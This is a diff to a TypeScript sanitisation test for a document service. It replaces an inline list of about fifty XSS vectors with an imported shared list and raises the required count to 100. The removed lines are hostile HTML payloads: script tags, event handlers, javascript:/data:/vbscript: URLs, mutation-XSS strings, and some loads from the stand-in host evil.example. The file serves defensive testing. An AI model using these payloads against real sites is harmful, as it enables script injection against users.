@@ -2,63 +2,10 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { AdminDocument, LegalDocument } from '@pbgdpl/contract';
 import { tokensRepository } from '../src/repositories/tokens.ts';
+import { XSS_VECTORS } from '../../../test/security/xss-vectors.ts';
 import { documentInput, json, makeDocumentsApp } from './helpers.ts';
 
-/** Hostile markup as editors might paste it, or an attacker might get into an import file. */
-const VECTORS = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<script/xss src="//evil.example/x.js"></script>',
-  '<img src=x onerror=alert(1)>',
-  '<p onclick="alert(1)">bấm</p>',
-  '<p ONMOUSEOVER=alert(1)>di chuột</p>',
-  '<body onload=alert(1)>',
-  '<span onpointerenter="alert(1)">x</span>',
-  '<details open ontoggle=alert(1)>',
-  '<a href="javascript:alert(1)">liên kết</a>',
-  '<a href="JaVaScRiPt:alert(1)">liên kết</a>',
-  '<a href=" javascript:alert(1)">liên kết</a>',
-  '<a href="jav&#x09;ascript:alert(1)">liên kết</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">liên kết</a>',
-  '<a href="&#x6A;avascript&colon;alert(1)">liên kết</a>',
-  '<a href="java\nscript:alert(1)">liên kết</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">liên kết</a>',
-  '<a href="DATA:text/html,<script>alert(1)</script>">liên kết</a>',
-  '<a href="vbscript:msgbox(1)">liên kết</a>',
-  '<a href="VBScript:msgbox(1)">liên kết</a>',
-  '<a href="//evil.example/">liên kết</a>',
-  '<svg onload=alert(1)><circle r=1 /></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<math href="javascript:alert(1)">x</math>',
-  '<style>body{background:url(javascript:alert(1))}</style>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<link rel=stylesheet href="//evil.example/x.css">',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="data:text/html,<script>alert(1)</script>">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<base href="javascript:alert(1)//">',
-  '<form action="javascript:alert(1)"><button>gửi</button></form>',
-  '<input autofocus onfocus=alert(1)>',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<noembed><img src=x onerror=alert(1)></noembed>',
-  '<textarea></textarea><script>alert(1)</script>',
-  '<xmp><script>alert(1)</script></xmp>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<!--<img src=x onerror=alert(1)>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<a title="&quot;><script>alert(1)</script>">x</a>',
-  '<p title="a" onclick="alert(1)" title="b">x</p>',
-  '<div><style><img src=x onerror=alert(1)//</style></div>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<table><td><form><input name=x></form></td></table><img src=x onerror=alert(1)>',
-];
+const VECTORS = XSS_VECTORS;
 
 /** Nothing that can run, style, embed or navigate: what stored and returned HTML must satisfy. */
 function assertInert(html: string, vector: string): void {
@@ -101,7 +48,7 @@ const create = async (input: ReturnType<typeof documentInput>) => {
 };
 
 test(`${VECTORS.length} XSS vectors in the body and material bodies are stored and returned inert`, async () => {
-  assert.ok(VECTORS.length >= 40);
+  assert.ok(VECTORS.length >= 100);
   for (const [i, vector] of VECTORS.entries()) {
     const created = await create(
       documentInput({
